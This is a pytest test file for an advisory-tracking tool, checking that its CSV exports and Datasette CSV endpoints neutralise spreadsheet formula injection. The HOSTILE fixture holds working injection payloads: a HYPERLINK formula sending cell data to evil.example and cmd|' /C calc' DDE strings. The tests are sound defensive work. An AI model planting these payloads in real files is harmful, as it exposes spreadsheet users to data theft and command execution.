"""CSV formula injection: cells starting with = + - @ tab or CR get a leading ' in every CSV the project writes.

`export --format csv`, `search --csv` (bot/export/csv.py) and Datasette's CSV of tables, rows and queries as
`advisory-bot serve` serves it (bot/web/plugins/csv_formulas.py), on a real server on loopback.
"""

import csv
import io
from datetime import UTC, datetime

import httpx
import pytest
from click.testing import CliRunner

from bot.cli import cli
from bot.export.csv import neutralise
from bot.run.store import store
from bot.web.plugins.csv_formulas import Rewriter
from storage import open_archive
from tests.analyst_archive import _item, build
from tests.conftest import serving

HOSTILE = {
    "h1": '=HYPERLINK("https://evil.example/?d="&A1,"Lazarus report")',
    "h2": "+cmd|' /C calc'!A0",
    "h3": "-2+3+cmd|' /C calc'!A0",
    "h4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "h5": "\t=1+1 Kimsuky",
    "h6": "\r=1+1 Kimsuky",
}


@pytest.fixture(scope="module")
def hostile_archive(tmp_path_factory):
    path = tmp_path_factory.mktemp("archive") / "advisories.db"
    build(path).close()
    db = open_archive(path)
    when = datetime(2026, 11, 24, 8, 0, tzinfo=UTC)
    items = [
        _item(f"{key}{'x' * 22}", "hostile-feed", when, title, f"{title} text", url=f"https://h.example/{key}",
              actors=("Kimsuky",), sectors=("government",))
        for key, title in HOSTILE.items()
    ]  # fmt: skip
    store(db, "hostile-feed", items, when.isoformat())
    db.close()
    return path


def assert_neutralised(text: str, title_column: str = "title") -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    titles = {r["id"][:2]: r[title_column].replace("\n", "\r") for r in rows if r["id"][:1] == "h"}
    assert titles == {key: "'" + title for key, title in HOSTILE.items()}, titles
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (row["id"], value)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"), ("+1+cmd|x", "'+1+cmd|x"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
        ("\r=x", "'\r=x"), ("-12", "-12"), ("+3.5e2", "+3.5e2"), ("-0.5", "-0.5"), ("Lazarus = APT38", "Lazarus = APT38"),
        ("", ""), ("'=1", "'=1"),
    ],
)  # fmt: skip
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_export_csv(hostile_archive, tmp_path):
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(
        cli, ["export", "--format", "csv", "--actor", "Kimsuky", "-o", str(out), "--db", str(hostile_archive)]
    )
    assert result.exit_code == 0, result.output
    assert_neutralised(out.read_text(encoding="utf-8"))
    assert b"\r" not in out.read_bytes()  # unquoted, a CR in a title would start a new row in a spreadsheet


def test_search_csv(hostile_archive):
    result = CliRunner().invoke(cli, ["search", "--source", "hostile-feed", "--csv", "--db", str(hostile_archive)])
    assert result.exit_code == 0, result.output
    assert_neutralised(result.stdout)


def test_rewriter_keeps_records_whole_across_any_chunking():
    rows = [["id", "title"], ["1", '=a,"b"\r\nc'], ["2", "-x é 한국"], ["3", "-4"], ["4", ""]]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    body = out.getvalue().encode("utf-8")
    expected = [["id", "title"], ["1", '\'=a,"b"\r\nc'], ["2", "'-x é 한국"], ["3", "-4"], ["4", ""]]
    for size in (1, 2, 3, 7, len(body)):
        rewriter = Rewriter()
        chunks = [body[i : i + size] for i in range(0, len(body), size)]
        got = b"".join(rewriter.feed(c) for c in chunks) + rewriter.feed(b"", final=True)
        assert list(csv.reader(io.StringIO(got.decode("utf-8"), newline=""))) == expected, size


@pytest.fixture(scope="module")
def served(hostile_archive):
    with serving(hostile_archive) as (_proc, url):
        yield url


@pytest.mark.parametrize(
    "path",
    [
        "/advisories/items.csv?_size=max",
        "/advisories/items.csv?_stream=on",
        "/advisories/items.csv?_size=max&_dl=1",
        "/advisories.csv?sql=select+id,+title+from+items",
        "/advisories/by_actor.csv?actor=APT43&_size=max",
    ],
)
def test_datasette_csv_over_http(served, path):
    response = httpx.get(served + path, timeout=30)
    assert response.status_code == 200, response.text[:300]
    assert_neutralised(response.text)


def test_datasette_csv_of_a_row_and_its_json_untouched(served):
    row = httpx.get(served + "/advisories/items/h1xxxxxxxxxxxxxxxxxxxxxx.csv", timeout=30)
    assert row.status_code == 200 and "'=HYPERLINK(" in row.text
    data = httpx.get(served + "/advisories/items/h1xxxxxxxxxxxxxxxxxxxxxx.json?_shape=array", timeout=30).json()
    assert data[0]["title"] == HOSTILE["h1"]  # JSON is data, not a spreadsheet: unchanged
